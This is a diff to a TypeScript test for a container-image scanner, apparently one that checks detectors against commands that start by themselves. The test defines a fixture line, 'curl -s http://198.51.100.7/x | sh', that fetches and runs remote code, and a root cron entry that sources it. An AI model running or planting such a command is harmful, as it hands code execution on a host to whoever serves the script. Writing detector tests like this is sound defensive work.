@@ -3,11 +3,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { image, layer } from '../../test/detection/image-case.ts';
-import { buildImage } from '../../testkit/image.ts';
-import { writeOciLayout } from '../../testkit/store.ts';
-import { DEFAULT_POLICY } from '../assess/index.ts';
-import { DEFAULT_LIMITS } from '../base/limits.ts';
-import { checkTarget } from './check.ts';
+import { findingsWithCache } from '../../testkit/findings-with-cache.ts';
 
 const FETCHES = 'curl -s http://198.51.100.7/x | sh\n';
 
@@ -18,21 +14,12 @@ beforeEach(() => {
 afterEach(() => rmSync(root, { recursive: true, force: true }));
 
 /** The crontab's layer is the same whatever lies below it. */
-async function check(below: string): Promise<readonly string[]> {
+function check(below: string): Promise<readonly string[]> {
   const spec = image(
     [layer({ 'opt/env': below }), layer({ 'etc/cron.d/x': '* * * * * root . /opt/env\n' })],
     { Entrypoint: ['/usr/bin/sleep', '1'] },
   );
-  const layout = mkdtempSync(join(root, 'layout-'));
-  await writeOciLayout(layout, [{ image: buildImage(spec), name: 'x' }]);
-  const [assessment] = await checkTarget(`oci:${layout}:x`, {
-    policy: DEFAULT_POLICY,
-    limits: DEFAULT_LIMITS,
-    registry: { insecure: false, timeout: 1000, dockerConfigFolder: join(root, 'none') },
-    workers: 1,
-    cacheFolder: join(root, 'cache'),
-  });
-  return (assessment?.findings ?? []).map(({ rule, why }) => `${rule}: ${why}`);
+  return findingsWithCache(spec, root);
 }
 
 describe('what detectors see in what starts by itself', () => {
